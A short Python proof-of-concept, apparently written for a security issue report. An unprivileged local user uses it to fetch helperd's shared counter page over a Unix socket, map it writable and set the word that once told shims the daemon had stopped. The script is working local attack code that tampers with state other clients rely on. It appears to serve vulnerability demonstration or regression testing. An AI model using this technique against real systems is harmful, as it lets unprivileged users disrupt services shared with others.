#!/usr/bin/env python3
"""An unprivileged local user writing the shims' counter page (issue 15, item 4): it asks
helperd for the page (COUNTERS, as every shim does), maps it writable and sets the word
that once told shims "helperd stopped, ask again" (offset 4, `closed` before the fix).

  counters_poison.py HELPERD_SOCKET
"""
import mmap
import socket
import struct
import sys

MAGIC, COUNTERS = 0x564D5332, 5

c = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
c.settimeout(5)
c.connect(sys.argv[1])
c.send(struct.pack("=III", MAGIC, COUNTERS, 0))
data, fds, _, _ = socket.recv_fds(c, 64, 1)
if not fds:
    sys.exit("no counter page: status %d" % struct.unpack("=Ii", data[:8])[1])
page = mmap.mmap(fds[0], 4096, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE)
page[4:8] = struct.pack("=I", 1)
print("set the word at offset 4 of the counter page to 1")
